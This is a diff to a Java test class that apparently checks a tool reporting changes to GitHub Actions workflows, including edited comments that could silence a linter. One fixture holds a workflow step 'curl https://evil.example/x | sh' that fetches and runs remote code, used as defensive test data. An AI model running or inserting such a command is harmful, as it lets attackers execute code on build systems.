@@ -207,6 +207,21 @@ class ChangedFieldsTest {
     }
 
     @Test
+    void aWorkflowsCommentsAreSaidAsALinterMayObeyThem() {
+        String workflow = ".github/workflows/review.yaml";
+        String text = "jobs:\n  a:\n    steps:\n    - uses: actions/checkout@abc # v6.0.1\n";
+        clone.write(workflow, text).commit("A workflow");
+        assertEquals(
+                List.of("the judge itself changes: " + workflow
+                        + ", comments: # v6.0.1 → # zizmor: ignore[artipacked]"),
+                what(put(workflow, text.replace("# v6.0.1", "# zizmor: ignore[artipacked]"))));
+        assertEquals(
+                List.of("the judge itself changes: " + workflow + ": jobs.a.steps[0].uses: actions/checkout@abc →"
+                        + " actions/checkout@def; " + workflow + ", comments: # v6.0.1 → # v6.0.2"),
+                what(put(workflow, text.replace("abc # v6.0.1", "def # v6.0.2"))));
+    }
+
+    @Test
     void whatASecretHoldsIsSaidNowhere() {
         List<String> said = new ArrayList<>();
         said.addAll(what(
@@ -367,7 +382,7 @@ class ChangedFieldsTest {
                         workflow + "    - run: |\n        # kind: Secret\n        curl https://evil.example/x | sh\n"));
         assertEquals(
                 "the judge itself changes: .github/workflows/x.yaml: jobs.a.steps: none → {run: # kind: Secret curl"
-                        + " https://evil.example/x | sh }",
+                        + " https://evil.example/x | sh }; .github/workflows/x.yaml, comments: none → [# kind: Secret]",
                 lowered(before, after).getFirst().what());
         // A generator that a comment speaks of makes nothing.
         assertEquals(
